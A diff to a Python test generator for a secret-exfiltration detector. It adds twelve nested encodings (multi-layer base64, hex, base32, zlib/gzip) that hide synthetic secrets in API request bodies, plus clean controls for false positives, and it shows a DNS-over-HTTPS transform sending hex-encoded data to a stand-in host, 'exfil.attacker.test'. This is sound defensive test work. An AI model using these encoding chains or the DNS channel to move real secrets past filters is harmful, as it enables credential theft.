@@ -9,7 +9,8 @@
 - `benign_samples()`: ordinary developer traffic that must pass: source code (this
   Python's own standard library), lockfiles with integrity hashes (this repo's uv.lock
   and a generated package-lock.json), git SHAs, UUIDs, base64 images, minified JS,
-  Claude-Code-like Messages API bodies from 10 KB to 2 MB, and values that look like
+  Claude-Code-like Messages API bodies from 10 KB to 2 MB, source files through each of the
+  nested transforms (two and three layers, compressed), and values that look like
   bare random tokens but are protocol randomness or ids (npm `_integrity`, ETags,
   request ids, nonces, OAuth state, CSRF tokens in forms and HTML, Sec-WebSocket-Key,
   session cookies, digests, cursors), in bodies, query strings and headers.
@@ -43,6 +44,11 @@ URLC = A + "_-"
 TRANSFORMS = ("plain", "base64", "hex", "url-encoded", "nested-json", "unicode-escaped", "reversed", "split",
               "base32", "dns-labels", "doh", "gzip-base64")
 ISSUE_TRANSFORMS = TRANSFORMS[:8]  # the eight the recall target (>= 97% over them) names
+# Two and three layers (issue 2's "nested up to a bound"): found by the engine's generic layer,
+# which decodes long hex / base64 / base32 runs that hold text or a compressed stream
+NESTED_TRANSFORMS = ("hex-of-base64", "base64-of-hex", "base64x3", "base64-of-zlib", "hex-of-gzip", "base32-of-base64",
+                     "base64-of-base32", "hex-of-hex", "base64-of-percent", "base64-of-unicode", "reversed-base64",
+                     "gzip-base64-past-64k")
 
 
 def _r(rng: random.Random, chars: str, n: int) -> str:
@@ -200,6 +206,8 @@ def apply(transform: str, context: str, secret: str) -> tuple[str, tuple[tuple[s
         return f"https://{host}:443/", (("host", f"{host}:443"), ("user-agent", "curl/8")), b""
     if transform == "gzip-base64":  # `gzip | base64`, the usual way to pack a file into one string
         return url, JSON_CT, _messages(base64.b64encode(gzip.compress(f"{context}\n".encode(), mtime=0)).decode())
+    if transform in NESTED_TRANSFORMS:
+        return url, JSON_CT, _messages(nested(transform, f"{context}\n"))
     if transform == "doh":
         message = _dns_query(f"{_dns_labels(context.encode().hex())}.exfil.attacker.test")
         query = base64.urlsafe_b64encode(message).decode().rstrip("=")
@@ -207,13 +215,41 @@ def apply(transform: str, context: str, secret: str) -> tuple[str, tuple[tuple[s
     raise ValueError(transform)
 
 
-def secret_samples(per_rule: int = 8, seed: int = 20240501) -> Iterator[Sample]:
+def _b64e(data: bytes) -> bytes:
+    return base64.b64encode(data)
+
+
+_NESTED: dict[str, Callable[[bytes], bytes]] = {
+    "hex-of-base64": lambda d: _b64e(d).hex().encode(),
+    "base64-of-hex": lambda d: _b64e(d.hex().encode()),
+    "base64x3": lambda d: _b64e(_b64e(_b64e(d))),
+    "base64-of-zlib": lambda d: _b64e(zlib.compress(d)),
+    "hex-of-gzip": lambda d: gzip.compress(d, mtime=0).hex().encode(),
+    "base32-of-base64": lambda d: base64.b32encode(_b64e(d)),
+    "base64-of-base32": lambda d: _b64e(base64.b32encode(d)),
+    "hex-of-hex": lambda d: d.hex().encode().hex().encode(),
+    "base64-of-percent": lambda d: _b64e("".join(f"%{b:02X}" for b in d).encode()),
+    "base64-of-unicode": lambda d: _b64e("".join(f"\\u{b:04x}" for b in d).encode()),
+    "reversed-base64": lambda d: _b64e(d)[::-1],
+    # a log of 82 KB of random ids ahead of the token: its gzip stream runs past the first 64 KB of its base64
+    "gzip-base64-past-64k": lambda d: _b64e(gzip.compress(_NOISE + d, mtime=0)),
+}
+_NOISE = "".join(f"{i:05d} {_r(random.Random(i), A, 32)} ok\n" for i in range(2000)).encode()  # ~52 KB gzipped
+
+
+def nested(transform: str, text: str) -> str:
+    """`text` through one of NESTED_TRANSFORMS (also used on clean text for the controls)."""
+    return _NESTED[transform](text.encode()).decode()
+
+
+def secret_samples(per_rule: int = 8, seed: int = 20240501, with_nested: bool = True) -> Iterator[Sample]:
+    transforms = TRANSFORMS + (NESTED_TRANSFORMS if with_nested else ())
     for rule, (gen, template) in sorted(FORMATS.items()):
         rng = random.Random(f"{seed}:{rule}")
         for _ in range(per_rule):
             secret = gen(rng)
             context = template.format(s=secret)
-            for transform in TRANSFORMS:
+            for transform in transforms:
                 url, headers, body = apply(transform, context, secret)
                 yield Sample(rule, transform, secret, url, headers, body)
 
@@ -349,6 +385,13 @@ def benign_samples(seed: int = 7) -> Iterator[Benign]:
     for size in (10_000, 30_000, 100_000, 300_000, 1_000_000, 2_000_000):
         for j in range(3 if size < 1_000_000 else 2):
             yield Benign("messages", f"messages-{size // 1000}k-{j}", claude_body(rng, size, sources))
+    # Clean controls of the nested transforms: 4 KB of source through each. Left out: base64 of base32,
+    # because base32 of text alone, one layer, already matches the AWS key id shape (`A[BK]IA` + 16 of
+    # [A-Z2-7]; known, before and after the nested layer); and larger files, since a file of
+    # `%XX`/`\uXXXX` escapes passes the candidate cap with one layer as with two (`invalid`).
+    controls = [t for t in NESTED_TRANSFORMS if t != "base64-of-base32"]
+    for t, (name, src) in zip(controls, sources[60:], strict=False):
+        yield Benign("nested", f"{t}:{name}", _messages(nested(t, src[:4000])))
     yield from protocol_values(random.Random(seed + 1))
 
 
